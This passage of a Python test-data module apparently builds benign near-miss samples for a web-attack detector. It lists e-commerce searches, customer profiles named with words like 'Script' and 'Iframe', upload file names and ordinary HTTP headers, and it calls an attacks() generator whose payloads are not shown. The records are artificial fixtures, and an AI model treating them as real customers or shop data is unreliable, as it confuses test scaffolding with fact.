    "marketplace feed Amazon DE",
    "Google Merchant diagnostics",
    "plugin update review",
    "WooCommerce subscriptions",
    "Magento 2.4.7 upgrade",
    "Hyva theme team",
    "Knockout checkout templates",
    "PrestaShop Smarty theme",
    "Shopware 6 storefront",
    "OpenCart route changes",
    "script-src CSP for checkout",
    "iframe payment fields",
    "php-fpm tuning",
    "cron:run schedule",
    "returns desk EMEA",
    "SKU MB-24-BLK",
    "track order page",
]

PROFILES = [
    ("Greta Nordlicht", "Hafenstr. 12, Hamburg"),
    ("Ravi Checkout", "MG Road 10, Bengaluru"),
    ("Script Coffee Roasters", "Market St 210, San Francisco"),
    ("Coupon Corner Ltd", "High St 4, Leeds"),
    ("Iframe Studios", "Canal 22, Amsterdam"),
    ("Alert Bikes", "Via Roma 5, Torino"),
    ("Marta Feed", "Calle Mayor 3, Madrid"),
    ("Phar Pharmacy", "Nile St 8, Cairo"),
    ("Eval Consulting", "Ringstr. 7, Vienna"),
    ("System Shoes", "Rue de Lyon 41, Paris"),
    ("Expression Florist", "King St 9, Melbourne"),
    ("Knockout Boxing Gear", "Queen St 60, Auckland"),
    ("Alpine Outfitters", "Bahnhofstr. 2, Zermatt"),
    ("Vue Optics", "Corso Italia 11, Milan"),
    ("Liquid Labs", "Dock Rd 3, Cape Town"),
    ("Smarty Pants Kids", "Elm St 14, Boston"),
    ("Twig & Leaf Gifts", "Oak Ln 2, Portland"),
    ("Chloé D'Arcy", "Rue Neuve 6, Brussels"),
    ("Seán O'Neill", "Shop St 1, Galway"),
    ("Gift Card Depot", "Mall Rd 100, Dallas"),
]

UPLOAD_NAMES = [
    "catalog_product_import.csv", "google-merchant-feed.xml", "amazon-de-feed.tsv", "price-list-2024-07.xlsx",
    "invoice-100004567.pdf", "packing-slip-100004567.pdf", "dhl-label-JJD0001234567.pdf", "ups-label-1Z999AA1.pdf",
    "coupon-codes-summer24.csv", "gift-cards-batch-07.csv", "orders-export-2024-06.csv", "erp-orders-0623.xml",
    "product-MB-24-BLK-front.jpg", "swatch-navy.png", "size-chart.pdf", "returns-form.pdf",
    "stripe-payouts-june.csv", "paypal-settlement-2024-06.csv", "marketplace_feed_errors.txt", "theme-hyva.zip",
    "email-template-order-new.html", "Zoë-Müller-refund.pdf", "D'Arcy invoice.pdf", "webhook-sample.json",
    "checkout-error-screenshot.png",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "Shopify-Captain-Hook"),
    ("User-Agent", "WooCommerce/8.9.1 Hookshot (WordPress/6.5.4)"),
    ("User-Agent", "PayPal IPN ( https://www.paypal.com/ipn )"),
    ("User-Agent", "GuzzleHttp/7"),
    ("Referer", "https://shop.example.com/checkout/onepage/success/"),
    ("Referer", "https://shop.example.com/catalogsearch/result/?q=duffle+bag"),
    ("Referer", "https://www.paypal.com/checkoutnow?token=EC-5Y366741JN879735H"),
    ("Referer", "https://hooks.stripe.com/3d_secure_2/hosted?merchant=acct_1A2b3C4d5E6f7G8h"),
    ("Referer", "https://shop.example.com/index.php?route=checkout/cart"),
    ("X-Api-Version", "2024-07"),
    ("X-Shopify-Topic", "orders/paid"),
    ("X-WC-Webhook-Topic", "order.created"),
    ("Cookie", "session=abc123; store=default; currency=EUR"),
    ("Cookie", "session=abc123; woocommerce_items_in_cart=1; wp_woocommerce_session_=abc%7C%7C1719000000"),
    ("Cookie", "session=abc123; form_key=Xy12AbCdEf34GhIj; mage-cache-sessid=true"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
    ("X-Request-Id", "7b2e4c1d-9a3f-4e8b-b6d0-1f2a3c4d5e6f"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
